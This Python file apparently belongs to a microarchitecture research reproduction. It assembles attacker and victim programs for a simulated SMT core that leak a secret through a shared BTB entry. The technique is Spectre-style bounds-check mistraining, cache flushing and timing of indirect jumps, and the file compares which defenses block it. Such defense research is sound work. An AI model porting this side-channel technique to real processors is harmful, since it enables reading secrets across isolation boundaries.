"""Cross-context BTB channel on an SMT core (``sharing="smt"``).

The shared BTB is PC-indexed, so a branch the *victim* context executes
at PC ``p`` steers the prediction of any attacker branch placed at the
same PC in the attacker's own address space.  Here the BTB entry itself
is the covert channel (receiver-style, like the paper's ``spectre_v1_btb``
variant, but across contexts):

1. The victim runs a bounds-check-bypass gadget whose wrong path computes
   an indirect-call target from the secret (``T(secret & 7)``) and
   executes ``callr`` at the shared ``BRANCH_PC``.  The transient call
   resolves long before the flushed bounds check does, so its resolution
   *installs the secret-dependent target in the shared BTB* even though
   the call itself is squashed.
2. The attacker times its own ``jr`` at ``BRANCH_PC``: jumping to the
   guessed target ``T(g)`` is fast when the BTB already predicts it and
   pays a squash + refetch penalty otherwise.

Both programs NOP-pad so the key branch sits at ``BRANCH_PC`` and keep
landing pads at the eight ``T(k)`` PCs.  A REQ/ACK counter handshake
re-poisons the entry before every timed guess (the attacker's own jump
resolution overwrites it each round), and round 0 is an untimed warm-up.

Per Table 2: every NDA policy blocks this (the transient target depends
on a deferred load, so the wrong-path ``callr`` never resolves and never
installs), as does fence-on-branch.  InvisiSpec does *not* — it hides
cache fills but still forwards load data to dependents, so the transient
install happens and the secret leaks.  That is exactly the paper's point
that cache-centric defenses miss non-cache channels.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from repro.attacks.common import (
    ARRAY_SIZE,
    BTB_LEAK_MARGIN,
    RESULTS_BASE,
    SCRATCH_BASE,
    SECRET_OFFSET,
    AttackOutcome,
    emit_spin_geq,
    pad_to,
    read_timings,
    run_cross_attack,
    victim_map,
)
from repro.config import SimConfig
from repro.errors import ConfigError
from repro.isa.assembler import Assembler
from repro.isa.program import Program
from repro.isa.registers import (
    LR,
    R0,
    R8,
    R9,
    R10,
    R11,
    R13,
    R15,
    R16,
    R17,
    R20,
    R21,
    R22,
    R23,
    R24,
)

SHARING = "smt"

_MAP = victim_map("cross_btb")
ARRAY_BASE = _MAP["array"]
SIZE_ADDR = _MAP["size"]
SECRET_ADDR = ARRAY_BASE + SECRET_OFFSET
REQ_FLAG = _MAP["flags"] + 0  # attacker -> victim: poison round r, please
ACK_FLAG = _MAP["flags"] + 8  # victim -> attacker: entry re-poisoned

# Both programs place their key indirect branch at this exact PC (the
# shared BTB is PC-indexed) and keep landing pads at the target PCs.
BRANCH_PC = 64
PAD_BASE = 96  # i-cache-line aligned; 8 pads of 2 instrs fill one line
PAD_STRIDE = 2
N_TARGETS = 8  # 3-bit channel: target index = secret & 7
N_ROUNDS = N_TARGETS + 1  # round 0 is an untimed cold-structure warm-up


def build_programs(secret: int = 5) -> Tuple[Program, Program]:
    """Assemble the (attacker, victim) pair."""

    # Attacker (context 0): per round, bump REQ, wait for ACK, then time
    # one jr through the shared BTB entry.  r8 holds round+1 (1-based).
    atk = Assembler("cross_btb_attacker")
    atk.li(R8, 1)
    atk.li(R9, N_ROUNDS + 1)
    atk.li(R10, REQ_FLAG)
    atk.li(R11, ACK_FLAG)
    atk.label("loop")
    atk.store(R8, R10, 0)  # REQ = round
    emit_spin_geq(atk, ACK_FLAG, R8)
    # Guess for this round: g = round - 2 (round 1 is the warm-up, g = 0).
    atk.subi(R20, R8, 2)
    atk.bge(R20, R0, "have_g")
    atk.li(R20, 0)
    atk.label("have_g")
    atk.shli(R21, R20, 1)  # PAD_STRIDE = 2
    atk.li(R16, PAD_BASE)
    atk.add(R16, R16, R21)  # actual target T(g)
    atk.rdtsc(R13)
    pad_to(atk, BRANCH_PC)
    atk.jr(R16)  # the timed branch: fast iff the BTB predicts T(g)
    pad_to(atk, PAD_BASE)
    for _ in range(N_TARGETS):
        atk.jmp("join")
        atk.nop()
    atk.label("join")
    atk.rdtsc(R22)
    atk.sub(R23, R22, R13)
    atk.subi(R20, R8, 2)
    atk.blt(R20, R0, "skip_store")  # warm-up round is untimed
    atk.shli(R21, R20, 3)
    atk.li(R24, RESULTS_BASE)
    atk.add(R24, R24, R21)
    atk.store(R23, R24, 0)
    atk.label("skip_store")
    atk.addi(R8, R8, 1)
    atk.blt(R8, R9, "loop")
    atk.halt()

    # Victim (context 1): per round, mis-train the bounds check with
    # in-bounds calls (array values are 0, so training installs T(0)),
    # then fire once out of bounds so the wrong path installs
    # T(secret & 7) in the shared BTB.
    vic = Assembler("cross_btb_victim")
    vic.word(SIZE_ADDR, ARRAY_SIZE)
    vic.data(ARRAY_BASE, bytes(ARRAY_SIZE))  # zeros: training target T(0)
    vic.data(SECRET_ADDR, bytes([secret]))

    vic.jmp("main")
    vic.label("victim_fn")
    vic.li(R24, SCRATCH_BASE)
    vic.store(LR, R24, 0)  # callr below clobbers the link register
    vic.li(R20, SIZE_ADDR)
    vic.load(R20, R20, 0)  # flushed before the firing call
    vic.bge(R10, R20, "victim_done")
    vic.add(R21, R11, R10)
    vic.loadb(R21, R21, 0)  # access: secret = array[x]
    vic.andi(R21, R21, 7)
    vic.shli(R21, R21, 1)
    vic.li(R22, PAD_BASE)
    vic.add(R22, R22, R21)
    pad_to(vic, BRANCH_PC)
    vic.callr(R22)  # resolves early; installs T(secret & 7) transiently
    vic.label("victim_done")
    vic.li(R24, SCRATCH_BASE)
    vic.load(LR, R24, 0)
    vic.ret()
    pad_to(vic, PAD_BASE)
    for _ in range(N_TARGETS):
        vic.ret()  # architectural training calls return through here
        vic.nop()

    vic.label("main")
    vic.li(R11, ARRAY_BASE)
    vic.li(R20, SECRET_ADDR)
    vic.loadb(R21, R20, 0)  # the victim touched its secret recently
    vic.li(R8, 1)
    vic.li(R9, N_ROUNDS + 1)
    vic.li(R13, ACK_FLAG)
    vic.label("vloop")
    emit_spin_geq(vic, REQ_FLAG, R8)
    # Vary the training count per round so the shared direction
    # predictor's history tables cannot lock onto the round rhythm.
    vic.andi(R17, R8, 3)
    vic.addi(R17, R17, 4)
    vic.li(R15, 0)
    vic.label("train")
    vic.li(R10, 0)
    vic.call("victim_fn")
    vic.addi(R15, R15, 1)
    vic.blt(R15, R17, "train")
    vic.li(R20, SIZE_ADDR)
    vic.clflush(R20, 0)
    vic.fence()
    vic.li(R10, SECRET_OFFSET)  # out of bounds: aliases the secret byte
    vic.call("victim_fn")
    vic.fence()
    vic.store(R8, R13, 0)  # ACK = round
    vic.addi(R8, R8, 1)
    vic.blt(R8, R9, "vloop")
    vic.fence()
    vic.halt()

    return atk.build(), vic.build()


def run(
    config: SimConfig,
    secret: int = 5,
    guesses: Optional[List[int]] = None,
    in_order: bool = False,
    fast_forward: bool = True,
) -> AttackOutcome:
    """Run the attack pair on *config*; report whether the secret leaked.

    The channel is 3-bit (eight shared-BTB targets, one timed per
    handshake round), so the guess list is always ``range(8)`` and the
    reported secret is ``secret & 7``; *guesses* is accepted for
    signature compatibility and ignored.
    """
    if in_order:
        raise ConfigError(
            "cross-context attacks run on co-resident OoO contexts; the "
            "in-order core has no multi-context mode"
        )
    if secret & 7 == 0:
        raise ValueError(
            "secret & 7 must be non-zero: training installs T(0), so a "
            "zero residue is indistinguishable from a blocked channel"
        )
    del guesses
    guess_list = list(range(N_TARGETS))
    programs = build_programs(secret)
    _, outcomes = run_cross_attack(
        programs, config, SHARING, fast_forward=fast_forward
    )
    return AttackOutcome(
        attack="cross_btb",
        channel="cross-btb",
        config_label=outcomes[0].label,
        secret=secret & 7,
        timings=read_timings(outcomes[0], guess_list),
        guesses=guess_list,
        margin_required=BTB_LEAK_MARGIN,
        outcome=outcomes[0],
    )
